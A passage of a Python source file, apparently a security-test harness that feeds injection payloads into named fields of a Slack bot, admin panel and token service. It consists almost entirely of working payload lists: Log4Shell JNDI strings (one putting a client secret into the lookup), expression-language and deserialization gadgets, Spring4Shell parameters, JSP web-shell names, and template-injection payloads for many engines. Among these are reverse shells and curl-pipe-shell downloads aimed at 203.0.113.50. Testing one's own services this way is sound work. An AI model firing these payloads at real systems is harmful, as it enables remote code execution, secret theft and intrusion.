# --- java: log4shell ---------------------------------------------------------------------------------------------
# Log4j 2 (a Java log pipeline that receives the services' logs: admin sessions store the User-Agent, the edge logs
# X-Request-Id and Referer, the audit log has the login username, TokenDealer logs client_id and scope): headers,
# forms, the Slack text, the data API's team_id, cookies
LOG4SHELL = [
    "${jndi:ldap://203.0.113.50:1389/Exploit}",
    "${jndi:ldap://${hostName}.l4j.oast.example/a}",
    "${jndi:rmi://203.0.113.50:1099/jeeves}",
    "${jndi:dns://203.0.113.50/td}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.50/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.50/x}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.50/x}",
    "${jndi:ldap://${env:SLACK_CLIENT_SECRET}.203.0.113.50.nip.io/x}",
    "${jndi:ldaps://l4j.oast.example/${sys:java.version}}",
    "${${upper:j}ndi:${upper:l}dap://203.0.113.50/x}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.50/x}",
    "${jn${lower:d}i:l${lower:d}ap://203.0.113.50/x}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.50/x}",
    "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%2Fx%7D",
    "${jndi:iiop://203.0.113.50/x}",
    "${jndi:${lower:r}mi://203.0.113.50/x}",
    "${${lower:jndi}:${lower:rmi}://203.0.113.50/x}",
    "${jndi:ldap://127.0.0.1#203.0.113.50:1389/x}",
    "${${base64:JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNTAveH0=}}",
    "${jndi:nis://203.0.113.50/x}",
]
# Log4Shell hidden behind JSON escapes (a Java consumer of the JSON body logs the decoded name): the data API's
# PATCH body, the Events API body
LOG4SHELL_DOCS = [
    '{"name":"\\u0024{jndi:ldap://203.0.113.50/x}"}',
    '{"type":"event_callback","event_id":"Ev0L4J","event":{"type":"message","channel_type":"im","user":"U0123ABCD",'
    '"channel":"D0123ABCD","text":"\\u0024\\u007bjndi:rmi://203.0.113.50/x\\u007d"}}',
]
# --- java: expression-language -----------------------------------------------------------------------------------
# OGNL, SpEL, MVEL, JEXL and JSP/JSF EL (a Java consumer that evaluates the field, as Struts, Spring Cloud Function or
# Confluence did): the admin search, a name, /me/'s place, `/jeeves` text, a description, `for`, the audience
EXPRESSION_LANGUAGE = [
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf"
    "-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess['allowStaticMethodAccess']=true,"
    "@java.lang.Runtime@getRuntime().exec('id')}",
    "${#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println('ognl')}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputSt"
    "ream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd').getInputStream())"
    ".useDelimiter('\\A').next()}",
    "${T(java.lang.System).getenv()}",
    "#{T(java.net.InetAddress).getByName('spel.oast.example')}",
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "Runtime.getRuntime().exec('id'); def x() { 'mvel' }; x();",
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')",
    "${''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "${pageContext.request.getSession().setAttribute('admin',true)}",
    "${pageContext.servletContext.getRealPath('/')}",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}",
    "${facesContext.externalContext.redirect('http://203.0.113.50/')}",
    "#{request.getClass().getClassLoader()}",
]
# --- java: polymorphic-deserialization ---------------------------------------------------------------------------
# fastjson, Jackson default typing, XStream and XMLDecoder documents (a Java service that binds the body): JSON to
# the data API's PATCH/PUT, the Events API and the interactions payload; XML to the same routes as XML
POLYMORPHIC = [
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.50:1389/Exploit","autoCommit":true}',
    '{"name":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"x":{"@type":"com.sun.rowset.JdbcRowS'
    'etImpl","dataSourceName":"rmi://203.0.113.50:1099/Exploit","autoCommit":true}}',
    '{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.i'
    'nternal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A"}',
    '{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQA"],"_name":"a",'
    '"_tfactory":{},"_outputProperties":{}}',
    '{"@type":"java.net.Inet4Address","val":"fastjson.oast.example"}',
    '{"settings":{"@type":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://203.0.113.50/x"}}',
    '{"@type":"java.lang.AutoCloseable","@type":"org.apache.commons.io.output.FileWriterWithEncoding","file":"/tmp/x",'
    '"encoding":"UTF-8"}',
    '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.50:1389/x","autoCommit":true}]',
    '{"name":["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM \'http:'
    '//203.0.113.50/x.sql\'"}]}',
    '["org.springframework.context.support.FileSystemXmlApplicationContext","http://203.0.113.50/spel.xml"]',
    '{"settings":["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerialized'
    'Map:aced00057372"}]}',
    '["org.apache.commons.configuration.JNDIConfiguration",{"prefix":"ldap://203.0.113.50/x"}]',
    '<linked-hash-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHand'
    'ler"><target class="java.lang.ProcessBuilder"><command><string>bash</string><string>-c</string><string>curl 203.'
    '0.113.50|sh</string></command></target><action>start</action></handler></dynamic-proxy></linked-hash-set>',
    '<com.sun.rowset.JdbcRowSetImpl><dataSource>ldap://203.0.113.50/x</dataSource><autoCommit>true</autoCommit></com'
    '.sun.rowset.JdbcRowSetImpl>',
    '<?xml version="1.0" encoding="UTF-8"?><java version="1.8.0" class="java.beans.XMLDecoder"><void class="java.lan'
    'g.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><v'
    'oid index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/>'
    '</void></java>',
    '<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><array class="java.lang.String" '
    'length="2"><void index="0"><string>touch</string></void><void index="1"><string>/tmp/xmldecoder</string></void>'
    '</array></void></object></java>',
    '<java><void class="javax.naming.InitialContext"><void method="lookup"><string>ldap://203.0.113.50/x</string></vo'
    'id></void></java>',
    '<map><entry><javax.script.ScriptEngineManager><classLoader class="java.net.URLClassLoader"><ucp><path><url>http:'
    '//203.0.113.50/x.jar</url></path></ucp></classLoader></javax.script.ScriptEngineManager><string>x</string></entr'
    'y></map>',
]
# --- java: class-loading -----------------------------------------------------------------------------------------
# Spring data binding and Struts parameters that reach the class loader (Spring4Shell, CVE-2014-0094), as names:
# the data API's query, the admin feature form, TokenDealer's token form, /me/'s settings form
CLASSLOAD_KV = [
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "class.classLoader.URLs[0]=http://203.0.113.50/evil.jar",
    "class['classLoader']['resources']['dirContext']['docBase']=//203.0.113.50/share",
    "class.module.classLoader.DefaultAssertionStatus=nonsense",
]
# class loading in code (a Java consumer that evaluates the field): Slack text, a name, the admin search, a
# description, /me/'s place
CLASSLOAD_TEXT = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.50/x.jar\")}).loadClass(\"Ex"
    "ploit\").newInstance()",
    "java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL('http://203.0.113.50/')}).loadClass('E')"
    ".getConstructor().newInstance()",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util.Base64Utils).de"
    "codeFromString('yv66vgAAADIA'),new javax.management.loading.MLet(new java.net.URL[0],T(java.lang.Thread).curre"
    "ntThread().getContextClassLoader()))",
    "java.lang.reflect.Method d=ClassLoader.class.getDeclaredMethod(\"defineClass\",String.class,byte[].class,int."
    "class,int.class);d.setAccessible(true);",
    "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(\"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A\")"
    ".newInstance()",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode(\"yv66vgAAADQA\"))",
    "javax.management.loading.MLet m=new javax.management.loading.MLet();m.addURL(\"http://203.0.113.50/x.jar\");m."
    "loadClass(\"Exploit\")",
    "((sun.misc.Unsafe)f.get(null)).defineClass(\"E\",b,0,b.length,null,null)",
    "new groovy.lang.GroovyClassLoader().parseClass(new java.net.URL(\"http://203.0.113.50/E.groovy\").text)"
    ".newInstance()",
    "java.rmi.server.RMIClassLoader.loadClass(\"http://203.0.113.50/\",\"Exploit\")",
]
# --- java: jsp-upload --------------------------------------------------------------------------------------------
# JSP web shells under a servlet container's names (no upload field exists: the tester posts the admin client form
# and /me/'s settings form as multipart, which Quart parses, with a file part named so)
JSP_SHELL = '<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("c")); %>'
JSP_UPLOAD = [
    "shell.jsp",
    "cmd.jspx",
    "../webapps/ROOT/s.jsp",
    "s.jsp%00.png",
    "s.jsp;.png",
    "s.jsp.",
    "s.JsP",
    "s.jspf",
    "s.jsp ",
    "shell.war",
    "s.jsp::$DATA",
    "..%2f..%2fwebapps%2fROOT%2fs.jsp",
    "s.jsp/",
    "avatar.png.jsp",
    "../../../../usr/local/tomcat/webapps/ROOT/index.jsp",
    "WEB-INF/../s.jspx",
]

# --- ssti --------------------------------------------------------------------------------------------------------
# Every SSTI list targets the fields that come back rendered: the admin user and audit searches (echoed in the
# page), `remember location <place>` in a DM or `/jeeves` (echoed in the reply), /me/'s place, a user's name (shown
# in the panel), a client's description, a button's value, the login's username. Engine named per list.

# Jinja2 (the admin panel's and /me/'s own engine, Quart)
JINJA2 = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('cat .run/secrets/slack_signing_secret')"
    ".read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{c()._module.__built"
    "ins__['__import__']('os').system('id')}}{% endif %}{% endfor %}",
    "{{get_flashed_messages.__globals__['current_app'].config['SECRET_KEY']}}",
    "{{url_for.__globals__.os.environ}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{namespace.__init__.__globals__.os.popen('id').read()}}",
]
# Twig (PHP)
TWIG = [
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{_self.env.setCache('ftp://203.0.113.50:2121')}}{{_self.env.loadTemplate('backdoor')}}",
    "{{[0]|reduce('system','id')}}",
    "{{['id','']|sort('system')|join}}",
    "{{dump(app)}}",
    "{% set x='id' %}{{[x]|map('shell_exec')|join}}",
]
# FreeMarker (Java)
FREEMARKER = [
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}',
    '<#assign oc="freemarker.template.utility.ObjectConstructor"?new()>${oc("java.lang.ProcessBuilder","id").start()}',
    '<#assign js="freemarker.template.utility.JythonRuntime"?new()><@js>import os;os.system("id")</@js>',
    '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("/etc/passwd").toURL()'
    '.openStream().readAllBytes()?join(" ")}',
    '<#assign cl=object?api.class.protectionDomain.classLoader>${cl.loadClass("java.lang.Runtime")}',
    '<#list .data_model?keys as k>${k}</#list>',
    '[#assign ex="freemarker.template.utility.Execute"?new()][=ex("whoami")]',
    '<#include "/etc/passwd">',
    '<#assign v="freemarker.template.utility.Execute"?new()>${v("curl http://203.0.113.50/fm")}',
]
# Velocity (Java)
VELOCITY = [
    '#set($x="")#set($rt=$x.class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("id"))$p.waitFor()',
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
    '#foreach($i in [1..999999999])#end',
    '#set($s=$request.getClass().getClassLoader())$s',
    '$request.getSession().getServletContext().getRealPath("/")',
    '#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("whoami"))$ex.waitFor()',
    '#include("/etc/passwd")',
    '#parse("../../../../etc/passwd")',
    '#evaluate("#set($r=$x.class.forName(\'java.lang.Runtime\'))$r.getRuntime().exec(\'id\')")',
]
# Thymeleaf (Java, Spring)
THYMELEAF = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::x",
    "[[${T(java.lang.Runtime).getRuntime().exec('whoami')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/th')}__}",
    "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "__${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}__::.x",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "<span th:utext=\"${@environment.getProperty('spring.datasource.password')}\"></span>",
]
# ERB (Ruby)
ERB = [
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= ENV.to_h %>",
    "<%= %x(whoami) %>",
    "<% require 'socket'; s=TCPSocket.new('203.0.113.50',4444); while(c=s.gets);IO.popen(c,'r'){|io|s.print io.read};"
    "end %>",
    "<%= Rails.application.secrets.secret_key_base %>",
]
# Smarty (PHP)
SMARTY = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{self::getStreamVariable('file:///etc/passwd')}",
    "{if system('id')}{/if}",
    "{if phpinfo()}{/if}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
    "{passthru('cat /etc/passwd')}",
    "{fetch file='/etc/passwd'}",
    "{assign var=c value='id'}{$c|system}",
]


def _hbs(code: str) -> str:
    """Handlebars (< 4.6): reach Function through the String constructor and run `code`."""
    return ('{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup strin'
            'g.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "' + code
            + '"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/wi'
            'th}}{{/with}}{{/with}}{{/with}}')


# Handlebars (Node.js)
HANDLEBARS = [
    _hbs("return require('child_process').execSync('id');"),
    _hbs("return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8');"),
    _hbs("return process.mainModule.require('child_process').exec('nc 203.0.113.50 4444 -e /bin/sh');"),
    _hbs("return JSON.stringify(process.env);"),
    _hbs("return global.process.kill(global.process.pid);"),
    '{{this.constructor.constructor "return process.mainModule.require(\'child_process\').execSync(\'id\')"}}',
    '{{#with (this.constructor.constructor "return process") as |p|}}{{p.env.SLACK_CLIENT_SECRET}}{{/with}}',
    '{{lookup (lookup this "constructor") "constructor"}}',
    '{{> ../../../../etc/passwd}}',
    '{{#each this}}{{@key}}={{this}} {{/each}}',
]
# Pug (Node.js)
PUG = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
    "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('id')",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- global.process.mainModule.require('child_process').execSync('touch /tmp/pug')",
    "=global.process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "p= process.env.SLACK_CLIENT_SECRET",
    "include /etc/passwd",
    "!{global.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "a(href=global.process.mainModule.require('child_process').execSync('id').toString())",
    "+x(global.process.mainModule.require('child_process').execSync('whoami'))",
]
# Mako (Python)
MAKO = [
    "${self.module.cache.util.os.system('id')}",
    "<% import os %>${os.popen('id').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.module.runtime.util.os.system('id')}",
    "${__import__('os').popen('cat /etc/passwd').read()}",
    "<%include file='/etc/passwd'/>",
    "${context.keys()}",
    "<% exec(\"import os;os.system('id')\") %>",
    "${self.attr._NSAttr__parent.module.cache.util.os.system('id')}",
    "<%! import socket,subprocess,os %><% s=socket.socket();s.connect(('203.0.113.50',4444));os.dup2(s.fileno(),0);"
    "os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i']) %>",
]
# Tornado (Python)
TORNADO = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{% import subprocess %}{{ subprocess.check_output('id',shell=True) }}",
    "{{__import__('os').system('id')}}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% set x=__import__('subprocess').getoutput('whoami') %}{{x}}",
    "{% module __import__('os').system('id') %}",
    "{% from os import popen %}{{ popen('uname -a').read() }}",
]
# Nunjucks (Node.js)
NUNJUCKS = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")()}}",
    "{{[].constructor.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")"
    "()}}",
    "{% set x = range.constructor(\"return process.mainModule.require('child_process').execSync('id').toString()\")()"
    " %}{{x}}",
    "{{'a'.toString.constructor('return process')().exit()}}",
    "{% include '/etc/passwd' %}",
    "{{lipsum.constructor(\"return require('child_process')\")()}}",
    "{{ range.constructor('return this')().process.kill(process.pid) }}",
    "{{ range.constructor('return global')() | dump }}",
]
# EJS (Node.js)
EJS = [
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>",
    "<% require('child_process').exec('nc 203.0.113.50 4444 -e /bin/sh') %>",
    "<%= include('/etc/passwd') %>",
    "<%- include('/proc/self/environ') %>",
    "<%= this.constructor.constructor('return process')().env %>",
    "<% global.process.exit() %>",
    "<%= global.process.mainModule.constructor._load('child_process').spawnSync('id').stdout %>",
]
# EJS render options reached through Express's query parsing (CVE-2022-29078), as parameter names: the data API's
# query, the admin feature form, TokenDealer's token form, /me/'s settings form
EJS_KV = [
    "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "settings[view options][escapeFunction]=1;return process.mainModule.require('child_process').execSync('id');"
    "&settings[view options][client]=true",
]
# Pebble (Java)
PEBBLE = [
    '{% set cmd = "id" %}{% set bytes = (1).TYPE.forName("java.lang.Runtime").methods[6].invoke(null,null).exec(cmd)'
    '.inputStream.readAllBytes() %}{{ (1).TYPE.forName("java.lang.String").constructors[0].newInstance(([bytes])'
    '.toArray()) }}',
    '{{ variable.getClass().forName("java.lang.Runtime").getRuntime().exec("id") }}',
    '{% for k in beans.keySet() %}{{k}}{% endfor %}',
    '{{ (1).TYPE.forName("java.lang.Runtime").methods[6].invoke(null,null).exec("touch /tmp/pebble") }}',
    '{{ "".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id") }}',
    '{% include "/etc/passwd" %}',
    '{{ beans.jacksonObjectMapper.enableDefaultTyping() }}',
    '{{ environment.getProperty("spring.datasource.password") }}',
    '{{ request.getSession().setAttribute("role","admin") }}',
    '{{ request.getServletContext().getAttribute("org.springframework.web.context.WebApplicationContext.ROOT") }}',
]
# Razor (ASP.NET)
RAZOR = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://203.0.113.50/r.ps1|iex\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@(new System.Net.WebClient().DownloadString(\"http://203.0.113.50/x\"))",
    "@{ var p=new System.Diagnostics.Process(); p.StartInfo.FileName=\"/bin/sh\"; p.StartInfo.Arguments=\"-c id\"; "
    "p.Start(); }",
    "@System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\")",
    "@Html.Raw(System.IO.File.ReadAllText(\"/etc/passwd\"))",
    "@{ System.IO.File.WriteAllText(\"wwwroot/s.aspx\",\"<%@ Page Language=\\\"C#\\\" %>\"); }",
    "@System.AppDomain.CurrentDomain.GetAssemblies()",
]
# Go text/template and html/template (with Sprig, Hugo or gomplate functions)
GO_TEMPLATES = [
    "{{printf \"%#v\" .}}",
    "{{define \"x\"}}<script>alert(document.domain)</script>{{end}}{{template \"x\"}}",
    "{{ .System \"id\" }}",
    "{{ env \"SLACK_CLIENT_SECRET\" }}",
    "{{ expandenv \"$HOME $AWS_SECRET_ACCESS_KEY\" }}",
    "{{ file.Read \"/etc/passwd\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.Getenv \"DATABASE_URL\" }}",
    "{{ range $i := until 1000000000 }}{{end}}",
    "{{ resources.GetRemote \"http://169.254.169.254/latest/meta-data/\" }}",
]
# Liquid (Shopify/Jekyll, LiquidJS)
LIQUID = [
    "{% include '../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% for i in (1..999999999) %}{{ i }}{% endfor %}",
    "{{ site.data | jsonify }}",
    "{{ 'x' | append: '<script>alert(document.cookie)</script>' }}",
    "{{ content | escape | prepend: '<img src=x onerror=alert(1)>' }}",
    "{% capture x %}{% include_relative ../../_config.yml %}{% endcapture %}{{ x }}",
    "{% include '/proc/self/environ' %}",
    "{% liquid for i in (1..100000000)\n echo i\n endfor %}",
    "{% render 'x' for (1..99999999) as i %}",
]

# ----------------------------------------------------------------------------------------------------------------
# Real fields (placement names: <route>-<where>:<field>); each list cycles through the ones its payloads fit.
SLACK_TEXTS = ("slack-event:text", "slack-cmd:text", "slack-act:value")
URL_FIELDS = ("slack-cmd:response_url", "slack-act:response_url", "auth-query:redirect_uri", "admin-query:next",
              "admin-form:login.next", "hdr:Referer", "td-form:audience")
RENDERED = ("admin-query:users", "slack-event:text", "me-form:place", "api-json:name", "admin-form:clients.description",
            "slack-cmd:text", "admin-query:audit", "slack-act:value", "admin-form:login.username")
JSON_DOCS = ("api-doc:users", "api-doc:switches", "slack-event:doc", "slack-act:doc")
XML_DOCS = ("api-xml:users", "slack-xml:events", "td-xml:token")
NAMES = ("api-names:users", "admin-names:features", "td-names:token", "me-names:settings")
LATIN_FIELDS = ("me-form:timezone", "admin-form:clients.description", "api-query:team_id", "td-form:access_token",
                "auth-query:code")
TOKEN_FIELDS = ("cookie:admin", "cookie:me", "td-form:access_token", "td-form:token", "slack-act:value",
                "api-json:name", "cookie:oidc_state", "hdr:Authorization")
UPLOADS = ("admin-upload:clients", "me-upload:settings")
LOCATION = "remember location "

# (category, sub, real fields, kind, words before the payload in Slack text, payloads)
FAMILIES: list[tuple[str, str, tuple[str, ...], str, str, list[str]]] = [
    ("generic", "nodejs-injection", SLACK_TEXTS, "text", "", NODE_SLACK),
    ("generic", "nodejs-injection", ("api-json:name", "admin-query:users", "admin-form:clients.description",
                                     "me-form:place", "td-form:scope", "cookie:me"), "text", "", NODE_FIELDS),
    ("generic", "nodejs-dos", ("slack-event:text", "slack-cmd:text", "api-json:name", "admin-form:clients.description",
                               "slack-act:value"), "text", "", NODE_DOS_CODE),
    ("generic", "nodejs-dos", ("admin-query:users", "admin-query:audit", "api-query:team_id", "me-form:place"),
     "text", "", NODE_DOS_REGEX),
    ("generic", "ssrf-cloud-metadata", URL_FIELDS, "text", "", SSRF_META),
    ("generic", "ssrf-cloud-metadata", ("slack-event:text", "slack-cmd:text"), "text", "weather ", SSRF_META_SLACK),
    ("generic", "ssrf-internal-ip", URL_FIELDS, "text", "", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", JSON_DOCS, "doc", "", POLLUTION_DOCS),
    ("generic", "javascript-prototype-pollution", NAMES, "kv", "", POLLUTION_KV),
    ("generic", "ruby-injection", ("slack-event:text", "api-json:name", "admin-form:clients.description",
                                   "me-form:place", "slack-cmd:text", "slack-act:value", "admin-query:users"),
     "text", "", RUBY),
    ("generic", "ruby-injection", ("api-json:name", "admin-form:clients.description", "slack-act:value"), "text", "",
     RUBY_YAML),
    ("generic", "perl-injection", ("slack-cmd:text", "slack-event:text", "me-form:place", "api-json:email",
                                   "admin-form:login.username", "admin-query:audit"), "text", "", PERL),
    ("generic", "php-data-scheme", ("auth-query:redirect_uri", "admin-query:next", "slack-cmd:response_url",
                                    "slack-act:response_url", "td-form:audience", "auth-query:for",
                                    "api-json:settings.timezone"), "text", "", PHP_DATA),
    ("java", "java-class-names", ("slack-event:text", "api-json:name", "admin-query:users",
                                  "admin-form:clients.description", "me-form:timezone", "td-form:scope",
                                  "hdr:User-Agent"), "text", "", JAVA_CLASSES),
    ("java", "java-process-spawn", ("slack-cmd:text", "api-json:email", "admin-form:features.team_id", "me-form:place",
                                    "admin-form:slack.user_id", "auth-query:code", "slack-act:value"), "text", "",
     JAVA_SPAWN),
    ("java", "java-serialization", LATIN_FIELDS, "latin", "", JAVA_SER_RAW),
    ("java", "java-serialization", TOKEN_FIELDS, "text", "", JAVA_SER_ENCODED),
    ("java", "java-deserialization-gadget", TOKEN_FIELDS, "text", "", GADGETS_B64),
    ("java", "java-deserialization-gadget", LATIN_FIELDS, "latin", "", GADGETS_RAW),
    ("java", "java-deserialization-gadget", ("td-form:token", "cookie:admin", "slack-act:value"), "text", "",
     GADGETS_PACKED),
    ("java", "log4shell", ("hdr:User-Agent", "hdr:X-Request-Id", "hdr:Referer", "admin-form:login.username",
                           "td-form:client_id", "slack-event:text", "hdr:X-Slack-Retry-Reason", "api-query:team_id",
                           "cookie:admin", "me-form:place", "hdr:Origin", "td-form:scope"), "text", "", LOG4SHELL),
    ("java", "log4shell", ("api-doc:users", "slack-event:doc"), "doc", "", LOG4SHELL_DOCS),
    ("java", "expression-language", ("admin-query:users", "api-json:name", "me-form:place", "slack-cmd:text",
                                     "admin-form:clients.description", "auth-query:for", "td-form:audience"),
     "text", "", EXPRESSION_LANGUAGE),
    ("java", "polymorphic-deserialization", JSON_DOCS, "doc", "", POLYMORPHIC),
    ("java", "class-loading", NAMES, "kv", "", CLASSLOAD_KV),
    ("java", "class-loading", ("slack-event:text", "api-json:name", "admin-query:users",
                               "admin-form:clients.description", "me-form:place"), "text", "", CLASSLOAD_TEXT),
    ("java", "jsp-upload", UPLOADS, "filename", "", JSP_UPLOAD),
    ("ssti", "jinja2", RENDERED, "text", LOCATION, JINJA2),
    ("ssti", "twig", RENDERED, "text", LOCATION, TWIG),
    ("ssti", "freemarker", RENDERED, "text", LOCATION, FREEMARKER),
    ("ssti", "velocity", RENDERED, "text", LOCATION, VELOCITY),
    ("ssti", "thymeleaf", RENDERED, "text", LOCATION, THYMELEAF),
    ("ssti", "erb", RENDERED, "text", LOCATION, ERB),
    ("ssti", "smarty", RENDERED, "text", LOCATION, SMARTY),
    ("ssti", "handlebars", RENDERED, "text", LOCATION, HANDLEBARS),
    ("ssti", "pug", RENDERED, "text", LOCATION, PUG),
    ("ssti", "mako", RENDERED, "text", LOCATION, MAKO),
    ("ssti", "tornado", RENDERED, "text", LOCATION, TORNADO),
    ("ssti", "nunjucks", RENDERED, "text", LOCATION, NUNJUCKS),
    ("ssti", "ejs", RENDERED, "text", LOCATION, EJS),
    ("ssti", "ejs", NAMES, "kv", "", EJS_KV),
    ("ssti", "pebble", RENDERED, "text", LOCATION, PEBBLE),
    ("ssti", "razor", RENDERED, "text", LOCATION, RAZOR),
    ("ssti", "go-templates", RENDERED, "text", LOCATION, GO_TEMPLATES),
